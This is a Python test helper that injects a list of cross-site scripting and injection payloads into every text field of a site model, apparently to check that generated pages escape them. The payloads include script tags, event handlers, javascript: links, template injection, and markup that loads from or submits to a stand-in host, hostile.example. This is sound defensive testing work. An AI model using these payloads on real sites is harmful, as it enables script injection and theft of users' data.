"""Texts that try to run something, in every field of a site that can hold a text.

They are put into the values of the model, past every check: what a page shows must be safe by
itself, also where a check would miss something one day.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from typing import Any, cast

from pydantic import BaseModel

from waakvlam.model.fields import Label, Markdown, Text
from waakvlam.model.site import Site

_RUN = "window.hostile=1;alert(1)"
HOSTILE = (
    f"<script>{_RUN}</script>",
    "<script src=https://hostile.example/x.js></script>",
    f'<img src=x onerror="{_RUN}">',
    f'<span onmouseover="{_RUN}">over</span>',
    f"<svg onload={_RUN}>",
    f"[een](javascript:{_RUN})",
    "[twee](data:text/html;base64,PHNjcmlwdD4=)",
    f"[drie](<JaVa\tscript:{_RUN}>)",
    f"[vier](java&#x73;cript:{_RUN})",
    "[vijf](vbscript:x)",
    "![zes](https://hostile.example/zes.png)",
    f'*zeven*{{: onclick="{_RUN}" }}',
    f'# Kop {{: onclick="{_RUN}" }}',
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"</title></textarea></template></noscript><img src=x onerror={_RUN}>",
    "{{ config }} {{ 7*7 }} {% include 'main.html' %} {# weg #}",
    "<style>body{display:none}</style><p style='position:fixed'>",
    "<base href=https://hostile.example/>",
    "<meta http-equiv=refresh content='0;url=https://hostile.example/'>",
    "<iframe src=https://hostile.example/></iframe><object data=x></object><embed src=x>",
    "<form action=https://hostile.example/><input name=x></form>",
    '<a id="__config">{}</a><a name="__drawer"></a>',
    "arbeidsmigranten" * 20,
    "\u0645\u0631\u062d\u0628\u0627",
    "\u2028\u2029 ]]> &lt;b&gt; &amp; \\u003c",
    f"</script><script>{_RUN}</script>",
    "<!-- <script>",
)
"""Section by section; what opens a comment stands last, where it can hide none of the others."""

MARK = "merk{:04d}"
"""Ends each text, with a number of its own."""


class Poisoner:
    """Puts a hostile text in every field; remembers which field got which mark."""

    def __init__(self) -> None:
        self.fields: dict[str, tuple[str, bool]] = {}
        """Name of the field, and whether it is plain text, by mark."""

    def site(self, site: Site) -> Site:
        """Return a site of which no text was left as it was."""
        return cast("Site", self._value(site, type(site).__name__))

    def _value(self, value: Any, name: str) -> Any:
        if isinstance(value, Text | Label):
            return self._text(value, name)
        if isinstance(value, BaseModel):
            return value.model_copy(update=dict(self._model(value)))
        if is_dataclass(value) and not isinstance(value, type):
            return replace(value, **dict(self._record(value)))
        if isinstance(value, Mapping):
            return {self._value(key, name): self._value(one, name) for key, one in value.items()}
        return tuple(self._value(one, name) for one in value) if type(value) is tuple else value

    def _model(self, model: BaseModel) -> Iterator[tuple[str, Any]]:
        """Yield each field; one that was left out and could hold a text gets one as well."""
        for name, field in type(model).model_fields.items():
            value, kinds = getattr(model, name), getattr(field.annotation, "__args__", ())
            kind = next((one for one in kinds if one in text_kinds()), None)
            if value is None and kind is not None:
                value = kind("x")
            yield name, self._value(value, f"{type(model).__name__}.{name}")

    def _record(self, record: Any) -> Iterator[tuple[str, Any]]:
        for field in fields(record):
            name = f"{type(record).__name__}.{field.name}"
            yield field.name, self._value(getattr(record, field.name), name)

    def _text(self, text: Text | Label, name: str) -> Text | Label:
        mark = MARK.format(len(self.fields))
        is_markdown = isinstance(text, Markdown)
        self.fields[mark] = name, not is_markdown
        return type(text)(("\n\n" if is_markdown else " ").join((*HOSTILE, mark)), text)


def text_kinds() -> tuple[type[Text | Label], ...]:
    """Return the classes of values that can hold any text."""
    return (Text, Label, *Text.__subclasses__())


def text_fields(model: type[BaseModel]) -> Iterator[str]:
    """Yield the name of every field of a model that can hold a text, with those inside it."""
    for name, field in model.model_fields.items():
        for kind in _kinds(field.annotation):
            if isinstance(kind, type) and issubclass(kind, BaseModel):
                yield from text_fields(kind)
            elif kind in text_kinds():
                yield f"{model.__name__}.{name}"


def _kinds(annotation: Any) -> Iterator[Any]:
    """Yield the classes that an annotation is made of."""
    parts = getattr(annotation, "__args__", ())
    yield from (one for part in parts for one in _kinds(part))
    if not parts:
        yield annotation
